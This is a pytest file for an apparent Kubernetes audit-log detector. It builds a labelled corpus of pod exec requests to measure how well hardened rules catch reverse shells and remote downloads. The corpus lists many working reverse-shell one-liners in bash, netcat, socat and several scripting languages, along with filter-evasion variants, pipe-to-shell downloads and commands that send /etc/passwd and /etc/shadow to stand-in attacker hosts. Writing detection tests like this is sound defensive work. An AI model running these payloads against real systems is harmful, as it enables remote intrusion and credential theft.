"""The hardened native rules on a labelled corpus of exec requests, plus targeted checks.

The corpus is built here: each payload is encoded the way a real client would send it
(kubectl's sorted keys, the JavaScript client's stdout-first order with %20, Rancher's
container-first order with 1, the Python client's True/False, the kubelet proxy path) and some
carry a malformed pair or a ``;`` pair elsewhere in the query.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from auditstream.detections.engine import Detector
from auditstream.detections.errors import RuleLoadError
from auditstream.detections.native import PREDICATES, NativeRule, prepare
from auditstream.detections.rule_hit import Explanation
from auditstream.detections.ruleset.case_runner import case_hits
from auditstream.detections.ruleset.cases import RuleCase
from auditstream.detections.ruleset.loader import load_rule_file, load_rules
from tests.unit.test_exec_request import go_query_escape

RULES = Path(__file__).resolve().parents[2] / "detections" / "rules"
RS, DL = "reverse_shell_hardened", "remote_download_https_hardened"
EVIL = "203.0.113.7"
Client = Callable[[list[str]], tuple[str, str]]


def _cmds(argv: list[str], space: str = "+") -> str:
    return "&".join("command=" + go_query_escape(a, space=space) for a in argv)


def _pod(query: str) -> tuple[str, str]:
    return f"/api/v1/namespaces/prod/pods/web-0/exec?{query}", "exec"


CLIENTS: dict[str, Client] = {
    "kubectl": lambda a: _pod(_cmds(a) + "&container=app&stdin=true&stdout=true&tty=true"),
    "javascript": lambda a: _pod(
        "stdout=true&stderr=true&stdin=false&tty=false&container=app&" + _cmds(a, "%20")
    ),
    "rancher": lambda a: _pod("container=app&stdout=1&stdin=1&stderr=1&tty=1&" + _cmds(a)),
    "python": lambda a: _pod(_cmds(a) + "&container=app&stderr=True&stdin=False&stdout=True"),
    "malformed": lambda a: _pod("container=app&x=%zz&" + _cmds(a) + "&bad=%4&stdout=true"),
    "semicolon": lambda a: _pod("stdin=true;tty=true&" + _cmds(a) + "&stdout=true"),
    "proxy": lambda a: (
        "/api/v1/nodes/node-1/proxy/exec/prod/web-0/app?" + _cmds(a) + "&output=1&error=1",
        "proxy",
    ),
}


def sh(script: str) -> list[str]:
    return ["sh", "-c", script]


def bash(script: str) -> list[str]:
    return ["bash", "-c", script]


BASH_I = f"bash -i >& /dev/tcp/{EVIL}/4444 0>&1"
PY_RS = (
    "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    f's.connect(("{EVIL}",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
    'os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"])'
)
PERL_RS = (
    f'use Socket;$i="{EVIL}";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
    'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");'
    'open(STDERR,">&S");exec("/bin/sh -i");};'
)
NODE_RS = (
    'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);'
    f'var client=new net.Socket();client.connect(4444,"{EVIL}",function(){{'
    "client.pipe(sh.stdin);sh.stdout.pipe(client);sh.stderr.pipe(client);});"
)
AWK_RS = (
    f'BEGIN {{s = "/inet/tcp/0/{EVIL}/4444"; while(42) {{ do{{ printf "shell>" |& s; '
    "s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } "
    'while(c != "exit") close(s); }}'
)

REVERSE_SHELLS: list[list[str]] = [
    bash(BASH_I),
    sh(f"bash -i > /dev/tcp/{EVIL}/4444 0>&1 2>&1"),
    sh(f"0<&196;exec 196<>/dev/tcp/{EVIL}/4444; sh <&196 >&196 2>&196"),
    bash("exec 5<>/dev/tcp/evil.example/443;cat <&5 | while read line; do $line 2>&5 >&5; done"),
    sh(f"sh -i >& /dev/udp/{EVIL}/53 0>&1"),
    ["nc", "-e", "/bin/sh", EVIL, "4444"],
    ["ncat", EVIL, "4444", "-e", "/bin/bash"],
    ["netcat", "-c", "bash", EVIL, "4444"],
    ["ncat", "--sh-exec", "bash -i", EVIL, "4444"],
    ["busybox", "nc", EVIL, "4444", "-e", "sh"],
    ["nc", "-lvnp", "4444", "-e", "/bin/sh"],
    ["ncat", "--ssl", "-e", "/bin/bash", "-v", "evil.example", "443"],
    sh(f"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {EVIL} 4444 >/tmp/f"),
    sh(f"mknod /tmp/p p && telnet {EVIL} 4444 0</tmp/p | /bin/sh 1>/tmp/p"),
    sh(f"telnet {EVIL} 4444 | /bin/bash | telnet {EVIL} 4445"),
    sh(
        "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | "
        f"openssl s_client -quiet -connect {EVIL}:4444 > /tmp/s; rm /tmp/s"
    ),
    ["socat", f"TCP:{EVIL}:4444", "EXEC:/bin/sh"],
    ["socat", "exec:bash -li,pty,stderr,setsid,sigint,sane", f"tcp:{EVIL}:4444"],
    sh("socat TCP4:evil.example:443 SYSTEM:'/bin/bash -i'"),
    ["socat", "OPENSSL:evil.example:443,verify=0", "EXEC:/bin/bash"],
    ["python3", "-c", PY_RS],
    ["python", "-c", 'import pty; pty.spawn("/bin/bash")'],
    [
        "python2",
        "-c",
        "import socket,subprocess;s=socket.socket();s.connect(('evil.example',80));"
        "subprocess.Popen(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())",
    ],
    ["perl", "-e", PERL_RS],
    [
        "perl",
        "-MIO",
        "-e",
        f'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"{EVIL}:4444");'
        "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;",
    ],
    [
        "ruby",
        "-rsocket",
        "-e",
        f'f=TCPSocket.open("{EVIL}",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)',
    ],
    ["php", "-r", f'$sock=fsockopen("{EVIL}",4444);exec("/bin/sh -i <&3 >&3 2>&3");'],
    [
        "php",
        "-r",
        '$s=fsockopen("tcp://evil.example",443);'
        '$proc=proc_open("/bin/sh -i", array(0=>$s, 1=>$s, 2=>$s),$pipes);',
    ],
    ["node", "-e", NODE_RS],
    ["awk", AWK_RS, "/dev/null"],
    ["zsh", "-c", f"zmodload zsh/net/tcp && ztcp {EVIL} 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY"],
    [
        "lua",
        "-e",
        f"require('socket');require('os');t=socket.tcp();t:connect('{EVIL}','4444');"
        "os.execute('/bin/sh -i <&3 >&3 2>&3');",
    ],
    [
        "pwsh",
        "-c",
        f'$c = New-Object System.Net.Sockets.TCPClient("{EVIL}",4444);$s = $c.GetStream();',
    ],
    # blind spots of the ES|QL rule
    bash(f"{BASH_I} # /dev/tcp/localhost/8080"),
    sh(f"echo /healthz 127.0.0.1; {BASH_I}"),
    sh(f"{{nc,-e,/bin/sh,{EVIL},4444}}"),
    sh(f"nc${{IFS}}-e${{IFS}}/bin/sh${{IFS}}{EVIL}${{IFS}}4444"),
    sh(f"n''c -e /bin/sh {EVIL} 4444"),
    bash(f"$'\\x6e\\x63' -e /bin/sh {EVIL} 4444"),
    sh(f"cd /tmp && nohup setsid bash -c '{BASH_I}' &"),
    sh(f"id\n{BASH_I}"),
    sh(f"echo a&{BASH_I}"),
    ["timeout", "600", "nc", EVIL, "4444", "-e", "/bin/sh"],
    ["env", "PS1=x", "/bin/busybox", "nc", EVIL, "4444", "-e", "/bin/ash"],
    bash(f"exec bash -i &>/dev/tcp/{EVIL}/4444 <&1"),
    sh(
        "python3 -c 'import socket,os,pty;s=socket.socket();"
        f's.connect(("{EVIL}",4444));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];'
        'pty.spawn("/bin/sh")\''
    ),
    bash(f"sh -i 5<> /dev/tcp/{EVIL}/4444 0<&5 1>&5 2>&5"),
    sh(f"eval '{BASH_I}'"),
    sh(f"bash <<< '{BASH_I}'"),
    bash(f'X="$({BASH_I})"'),
    sh(f"su -c 'nc -e /bin/sh {EVIL} 4444' root"),
    bash(f"cat /etc/passwd > /dev/tcp/{EVIL}/80"),
    sh("0<&196;exec 196<>/dev/tcp/localhost.evil.example/4444; sh <&196 >&196 2>&196"),
    sh(f"BASH_I='x' NC=1 command nc -e /bin/sh {EVIL} 4444"),
    sh(f"if true; then {BASH_I}; fi"),
    ["sh", "-c", f"sh -c \"bash -c '{BASH_I}'\""],
    ["sh", "-ec", f"while :; do {BASH_I}; sleep 60; done"],
    sh(f"cat < /dev/tcp/{EVIL}/80 | bash"),
    bash(f"echo $(cat /etc/shadow) > /dev/tcp/{EVIL}/80"),
]

DOWNLOADS: list[list[str]] = [
    sh("curl -fsSL https://evil.example/x.sh | sh"),
    sh("wget -q https://evil.example/miner -O /tmp/m && chmod +x /tmp/m && /tmp/m"),
    ["curl", "-o", "/tmp/x", f"https://{EVIL}/x"],
    ["wget", "--no-check-certificate", "HTTPS://EVIL.EXAMPLE/payload"],
    ["curl", "https://evil.example/x.sh", "-H", "X: localhost"],
    ["curl", "-H", "Host: kubernetes.default.svc", "https://evil.example/x"],
    ["busybox", "wget", "https://evil.example/a", "-O", "/tmp/a"],
    sh("cd /tmp;wget https://evil.example/a&&sh a"),
    sh("curl -s https://evil.example/healthz | bash"),
    bash("bash <(curl -s https://evil.example/i.sh)"),
    sh('sh -c "$(curl -fsSL https://evil.example/install.sh)"'),
    [
        "python3",
        "-c",
        "import urllib.request;urllib.request.urlretrieve('https://evil.example/x','/tmp/x')",
    ],
    ["perl", "-MLWP::Simple", "-e", 'getstore("https://evil.example/x","/tmp/x")'],
    ["php", "-r", 'file_put_contents("/tmp/x", file_get_contents("https://evil.example/x"));'],
    [
        "ruby",
        "-e",
        'require "open-uri"; File.write("/tmp/x", URI.open("https://evil.example/x").read)',
    ],
    [
        "node",
        "-e",
        'require("https").get("https://evil.example/x", r => '
        'r.pipe(require("fs").createWriteStream("/tmp/x")))',
    ],
    ["aria2c", "https://evil.example/x"],
    ["curl", "--url=https://evil.example/x", "-o", "/tmp/x"],
    ["curl", "https://localhost@evil.example/x"],
    ["curl", "https://evil.example\\@localhost/x"],
    ["curl", "-sk", "https://kubernetes.default.svc.evil.example/x"],
    sh("echo https://localhost/healthz; curl -s https://evil.example/x | sh"),
    ["timeout", "30", "curl", "-k", f"HTTPS://{EVIL}:8443/agent", "-o", "/tmp/agent"],
    sh("wget -qO- https://evil.example/x | python3"),
    sh("nohup curl https://evil.example/x -o /tmp/x &"),
    sh("curl${IFS}https://evil.example/x|sh"),
    sh("c\\url https://evil.example/x"),
    ["curl", "-s", "https://evil.example/.well-known/openid-configuration", "-o", "/tmp/x.sh"],
    ["http", "https://evil.example/x"],
    sh("cd /tmp && curl -sO https://evil.example/a&&chmod +x a&&./a"),
    sh("id\nwget https://evil.example/b -O /tmp/b"),
    sh("curl -sk https://kubernetes.default.svc/healthz | sh"),
    sh("curl -sfL https://localhost:8443/livez | sh -s - server"),
]

ROUTINE: list[list[str]] = [
    ["sh"], ["bash"], ["/bin/bash", "-il"], ["sh", "-i"], ["ls", "-la", "/app"],
    ["cat", "/etc/os-release"], ["env"], ["ps", "aux"], ["df", "-h"], ["top", "-b", "-n1"],
    ["id"], ["whoami"], ["uname", "-a"], ["free", "-m"], ["du", "-sh", "/data"],
    ["tail", "-n", "100", "/var/log/app.log"], ["printenv", "HOME"], ["ss", "-tlnp"],
    ["cat", "/proc/net/tcp"], sh("cat /proc/net/tcp | head -20"),
    ["curl", "-s", "http://localhost:8080/healthz"],
    ["curl", "-sk", "https://localhost:8443/healthz"],
    ["curl", "-k", "https://127.0.0.1:10250/healthz"],
    ["wget", "-qO-", "https://kubernetes.default.svc/readyz"],
    ["wget", "--spider", "https://kubernetes.default.svc/healthz"],
    sh(
        'curl --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H "Authorization: '
        'Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)" '
        "https://kubernetes.default.svc/api/v1/namespaces/prod/pods"
    ),
    ["curl", "-s", "https://kubernetes.default.svc.cluster.local/livez"],
    ["curl", "https://sso.example/realms/prod/protocol/openid-connect/certs"],
    ["curl", "-s", "https://issuer.example/.well-known/openid-configuration"],
    ["curl", "-s", "https://api.example/openid/v1/jwks"],
    ["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", "https://localhost:8443/livez"],
    ["timeout", "1", "bash", "-c", "</dev/tcp/127.0.0.1/5432"],
    bash("echo > /dev/tcp/localhost/8080 && echo open"),
    bash('exec 3<>/dev/tcp/localhost/8080; echo -e "GET /healthz HTTP/1.0\\r\\n\\r\\n" >&3; cat <&3'),
    ["nc", "-z", "postgres", "5432"], ["nc", "-zv", "redis", "6379"],
    sh("nc -z -w 2 db 5432 && echo ok"), ["busybox", "nc", "-z", "mq", "5672"],
    ["echo", "https://example.com/download"], sh('echo "see https://docs.example.com/x.sh"'),
    ["printf", "%s\\n", "https://evil.example/x"],
    ["python3", "-c", "import socket; print(socket.gethostname())"],
    ["python", "-c", "import socket;print(socket.gethostbyname('db'))"],
    ["python3", "-c", "import socket;s=socket.socket();s.connect(('localhost',8080));s.close()"],
    ["psql", "-U", "postgres", "-c", "select 1"], ["mysql", "-uroot", "-e", "show databases"],
    ["redis-cli", "ping"], ["mongosh", "--eval", "db.stats()"],
    sh("PGPASSWORD=x psql -h db -U app -c 'select now()'"),
    ["cat", "/var/run/secrets/kubernetes.io/serviceaccount/namespace"],
    ["tar", "czf", "/tmp/backup.tgz", "/data"], ["java", "-version"], ["node", "-v"],
    ["python3", "--version"], ["pip", "list"], sh("ls /tmp && rm -f /tmp/*.lock"),
    sh("openssl s_client -connect api.example:443 -servername api.example </dev/null"),
    sh("for i in 1 2 3; do curl -s http://localhost:8080/metrics; done"),
    ["mkdir", "-p", "/tmp/work"], ["date"], ["hostname"],
    sh("curl -sk https://kubernetes.default.svc/version | python3 -m json.tool"),
    sh("curl -s https://localhost:8443/healthz | jq ."), bash("echo test > /dev/tcp/db/5432"),
    sh("mkfifo /tmp/pipe && cat /tmp/pipe"), ["openssl", "s_client", "-connect", "api:443"],
    sh("ps aux | grep -v grep | grep nc"), ["git", "clone", "https://github.com/org/repo"],
]  # fmt: skip


@dataclass(frozen=True)
class Sample:
    label: str
    expect: str | None  # the predicate that must fire, None for routine work
    uri: str
    subresource: str


def build_corpus() -> list[Sample]:
    """Every payload through a rotating client; a few through every client."""
    names = list(CLIENTS)
    out: list[Sample] = []
    for rule, payloads in ((RS, REVERSE_SHELLS), (DL, DOWNLOADS), (None, ROUTINE)):
        for i, argv in enumerate(payloads):
            chosen = names if i % 10 == 0 else [names[i % len(names)]]
            for client in chosen:
                uri, sub = CLIENTS[client](argv)
                out.append(Sample(f"{client}: {' '.join(argv)[:80]}", rule, uri, sub))
    return out


CORPUS = build_corpus()


def fired(sample: Sample) -> dict[str, Explanation]:
    prepared = prepare(sample.uri, sample.subresource)
    assert prepared is not None, sample.label
    hits = {name: pred(*prepared) for name, pred in PREDICATES.items()}
    return {name: h for name, h in hits.items() if h is not None}


def test_corpus_recall_and_false_positives() -> None:
    malicious = [s for s in CORPUS if s.expect is not None]
    benign = [s for s in CORPUS if s.expect is None]
    assert len(malicious) >= 60 and len(benign) >= 40
    missed = [s.label for s in malicious if s.expect not in fired(s)]
    noisy = [(s.label, fired(s)) for s in benign if fired(s)]
    recall = 1 - len(missed) / len(malicious)
    print(
        f"\nhardened rules: recall {recall:.3f} ({len(malicious) - len(missed)}/{len(malicious)})"
    )
    print(f"hardened rules: false positives {len(noisy)}/{len(benign)}")
    assert recall >= 0.97, missed
    assert not noisy


@pytest.mark.parametrize("sample", [s for s in CORPUS if s.expect], ids=lambda s: s.label)
def test_each_alert_names_indicator_and_simple_command(sample: Sample) -> None:
    hit = fired(sample).get(sample.expect or "")
    if hit is None:
        pytest.skip("counted by the recall test")
    assert hit.indicator and hit.simple_command
    assert hit.detail and "text=" in hit.detail


@pytest.mark.parametrize(
    ("argv", "indicator", "command"),
    [
        (bash(BASH_I), "shell_stdio_to_socket", BASH_I),
        (sh(f"{BASH_I} # /dev/tcp/localhost/8080"), "shell_stdio_to_socket", BASH_I),
        (["busybox", "nc", EVIL, "1", "-e", "sh"], "netcat_exec", f"nc {EVIL} 1 -e sh"),
        (["python", "-c", "import pty;pty.spawn('sh')"], "python_pty_spawn", None),
        (sh("x; curl https://e.example/a -H 'X: localhost'"), "curl_https", None),
    ],
)
def test_alert_says_why(argv: list[str], indicator: str, command: str | None) -> None:
    uri, sub = CLIENTS["javascript"](argv)
    hits = fired(Sample("t", None, uri, sub))
    (hit,) = hits.values()
    assert hit.indicator == indicator
    if command is not None:
        assert hit.simple_command == command


def test_allow_list_applies_to_target_only() -> None:
    benign = prepare(*CLIENTS["kubectl"](["curl", "https://localhost/x.sh"]))
    hostile = prepare(*CLIENTS["kubectl"](["curl", "https://evil.example/x", "localhost"]))
    assert benign is not None and hostile is not None
    assert PREDICATES[DL](*benign) is None
    assert PREDICATES[DL](*hostile) is not None


def test_proxy_route_is_named_in_the_alert() -> None:
    prepared = prepare(*CLIENTS["proxy"](["nc", "-e", "/bin/sh", EVIL, "1"]))
    assert prepared is not None
    hit = PREDICATES[RS](*prepared)
    assert hit is not None and hit.detail is not None and "kubelet proxy" in hit.detail


def test_kubelet_proxy_run_endpoint() -> None:
    uri = f"/api/v1/nodes/n1/proxy/run/prod/web-0/app?cmd=nc+-e+%2Fbin%2Fsh+{EVIL}+4444"
    prepared = prepare(uri, "proxy")
    assert prepared is not None and prepared[0].kind == "proxy_run"
    hit = PREDICATES[RS](*prepared)
    assert hit is not None and hit.indicator == "netcat_exec"


NATIVE_RULES = [rule for rule in load_rules().rules if isinstance(rule, NativeRule)]
DETECTOR = Detector(NATIVE_RULES)


def _rule_cases() -> list[tuple[NativeRule, RuleCase]]:
    return [(rule, case) for rule in NATIVE_RULES for case in rule.cases]


@pytest.mark.parametrize(
    ("rule", "case"), _rule_cases(), ids=lambda v: getattr(v, "note", "")[:60] or None
)
def test_rule_file_cases(rule: NativeRule, case: RuleCase) -> None:
    hits = case_hits(DETECTOR, rule, case)
    hit = hits[0].explanation if hits else None
    assert (hit is not None) is case.expect, (rule.meta.name, case.note, hit)
    if case.expect and case.indicator:
        assert hit is not None and hit.indicator == case.indicator


def test_rule_files_load_with_metadata() -> None:
    rules = NATIVE_RULES
    assert {r.predicate_name for r in rules} == set(PREDICATES)
    parity = {r.predicate_name: r.parity_rule_id for r in rules}
    assert parity[RS] == "f1a2b3c4-d5e6-4789-a012-3456789abc01"
    assert parity[DL] == "c9d4e8f1-2a3b-4c5d-8e9f-0a1b2c3d4e5f"
    for rule in rules:
        assert rule.meta.severity == "high" and rule.meta.risk_score == 73
        assert rule.meta.language == "python" and rule.meta.threat
        assert len(rule.cases) >= 5


def test_loader_rejects_unknown_predicate(tmp_path: Path) -> None:
    source = (RULES / "kubernetes_pod_exec_reverse_shell_hardened.toml").read_text()
    bad = tmp_path / "bad.toml"
    bad.write_text(source.replace('predicate = "reverse_shell_hardened"', 'predicate = "nope"'))
    with pytest.raises(RuleLoadError, match="predicate"):
        load_rule_file(bad)
